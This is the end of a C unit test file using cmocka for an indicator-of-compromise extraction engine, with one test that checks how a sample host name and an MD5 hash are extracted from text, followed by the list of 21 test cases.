    am_diags_print(&d, stderr);
    assert_int_equal(rc, 0);
    am_arena_t *a = am_arena_new(4096, 0);
    eng_indicator_t *out = NULL;
    size_t n = 0;
    const char *text = "HOST=Evil.Example.COM x " H32 " other.example.com";
    assert_int_equal(eng_extract_text(&out, &n, r, text, strlen(text), IOC_MASK_ALL, "f", a), 0);
    assert_int_equal(n, 2);
    assert_string_equal(out[0].value, "evil.example.com");
    assert_int_equal(out[1].type, ENG_IOC_HASH_MD5);
    assert_non_null(strstr(out[0].origin, ":3"));
    assert_non_null(strstr(out[1].origin, ":8"));
    am_arena_free(a);
    eng_rules_free(r);
    am_diags_dispose(&d);
    unlink(path);
    free(path);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_scan_table),
        cmocka_unit_test(test_url_ends),
        cmocka_unit_test(test_failed_url_keeps_host),
        cmocka_unit_test(test_schemes),
        cmocka_unit_test(test_unicode_spaces),
        cmocka_unit_test(test_email_literals),
        cmocka_unit_test(test_email_edges),
        cmocka_unit_test(test_ip_after_punctuation),
        cmocka_unit_test(test_hash_in_url_path),
        cmocka_unit_test(test_skip_after_alnum_is_safe),
        cmocka_unit_test(test_splunk_raw),
        cmocka_unit_test(test_prose_description),
        cmocka_unit_test(test_mask_and_append),
        cmocka_unit_test(test_limit),
        cmocka_unit_test(test_pathological),
        cmocka_unit_test(test_random_text),
        cmocka_unit_test(test_threads_share_rules),
        cmocka_unit_test(test_bad_rule_files),
        cmocka_unit_test(test_several_errors_at_once),
        cmocka_unit_test(test_missing_file),
        cmocka_unit_test(test_custom_rules_and_flags),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
